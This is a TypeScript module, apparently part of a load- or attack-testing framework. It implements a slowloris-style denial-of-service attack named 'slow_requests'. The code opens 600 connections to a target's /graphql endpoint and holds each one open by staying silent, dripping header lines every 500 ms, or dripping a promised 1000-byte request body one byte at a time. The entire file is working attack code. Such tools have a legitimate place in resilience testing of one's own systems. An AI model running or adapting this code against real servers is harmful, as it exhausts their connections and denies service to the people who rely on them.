import type { Attack } from '../attack.ts';
import { requestText, swarm, whileOpen } from './swarm.ts';

const CONNECTIONS = 600;
const DRIP_MS = 500;

/** Holds connections with requests that never end: some say nothing, some drip their head, some their body. */
export const slowRequests: Attack = {
  name: 'slow_requests',
  run: (target, run) =>
    swarm(target, run, CONNECTIONS, (socket) => {
      const way = Math.floor(run.random() * 3);
      if (way === 0) return;
      const request = requestText('POST', '/graphql', {
        headers: { 'content-type': 'application/json', 'content-length': '1000' },
      });
      socket.write(way === 1 ? 'POST /graphql HTTP/1.1\r\n' : request);
      whileOpen(socket, DRIP_MS, () => socket.write(way === 1 ? 'x-drip: 1\r\n' : ' '));
    }),
};
